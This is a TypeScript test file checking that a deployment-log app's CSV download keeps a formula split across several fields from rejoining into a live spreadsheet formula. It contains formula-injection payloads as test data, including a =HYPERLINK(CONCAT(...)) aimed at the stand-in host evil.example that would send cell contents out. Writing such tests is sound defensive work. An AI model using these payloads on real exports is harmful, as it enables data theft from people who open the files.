// Values harmless one by one cannot combine across CSV cells into a formula (issue 10.1), on either database.
import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import { buildTestApp } from '../helper.js'
import { deploy, linkHref, parseCsv, userSession } from '../support/ui.js'

/** Records the event through POST /deploy and downloads the CSV as a logged-in member would. */
async function recordAndDownload(t: TestContext, fields: Record<string, string>) {
  const ctx = await buildTestApp(t)
  const recorded = await deploy(ctx.app, ctx.tenant.key, fields)
  assert.equal(recorded.status, 201, JSON.stringify(recorded.body))
  const { browser } = await userSession(ctx, ctx.tenant.account.id, 'ada@example.com', 'member')
  const page = await browser.get('/logs/')
  assert.equal(page.statusCode, 200)
  const href = linkHref(page.payload, 'Download CSV')
  assert.ok(href, 'the logs page links to the CSV download')
  const csv = await browser.get(href)
  assert.equal(csv.statusCode, 200)
  return { csv: csv.payload, event: recorded.body }
}

test('a comma in one field and quotes in two others do not forge a quoted formula across cells (the review repro)', async (t) => {
  const fields = {
    service: 'a,b',
    environment: 'e',
    version: 'v',
    status: 'Deployed',
    commit: '"=SUM(1',
    description: '2',
    deployer: '3)",x',
  }
  const { csv, event } = await recordAndDownload(t, fields)
  const lines = csv.split('\r\n')
  // Byte for byte, written from RFC 4180 by hand: each field its own cell, every text cell quoted
  // (issue 25), quotes doubled.
  assert.equal(
    lines[1],
    `${String(event.id)},"${String(event.received_at)}","a,b","e","v","Deployed","","""=SUM(1","2","3)"",x","deploy","ci"`,
  )
  assert.doesNotMatch(csv, /"=SUM\(1,2,3\)"/, 'no cell reads =SUM(1,2,3)')
  // And as a strict RFC 4180 reader sees it: twelve cells, each the value sent.
  const rows = parseCsv(csv)
  assert.equal(rows.length, 2)
  assert.deepEqual(rows[1], [
    String(event.id),
    String(event.received_at),
    'a,b',
    'e',
    'v',
    'Deployed',
    '',
    '"=SUM(1',
    '2',
    '3)",x',
    'deploy',
    'ci',
  ])
})

test('the same trick cannot build a live =HYPERLINK that sends a cell to another site', async (t) => {
  const fields = {
    service: 'x,y',
    environment: 'prod',
    version: '1.0',
    status: 'deployed',
    url: 'https://ci.example/run/1',
    // Were the cells joined and trusted, the row would read =HYPERLINK(CONCAT("http://evil…",A1,A2)).
    commit: '"=HYPERLINK(CONCAT(""http://evil.example/?""',
    description: 'A1',
    deployer: 'A2))",z',
  }
  const { csv, event } = await recordAndDownload(t, fields)
  assert.equal(
    csv.split('\r\n')[1],
    `${String(event.id)},"${String(event.received_at)}","x,y","prod","1.0","Deployed","https://ci.example/run/1",` +
      '"""=HYPERLINK(CONCAT(""""http://evil.example/?""""","A1","A2))"",z","deploy","ci"',
  )
  const rows = parseCsv(csv)
  assert.equal(rows.length, 2)
  assert.deepEqual(rows[1], [
    String(event.id),
    String(event.received_at),
    'x,y',
    'prod',
    '1.0',
    'Deployed',
    'https://ci.example/run/1',
    '"=HYPERLINK(CONCAT(""http://evil.example/?""',
    'A1',
    'A2))",z',
    'deploy',
    'ci',
  ])
  for (const cell of rows[1] ?? []) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`)
})
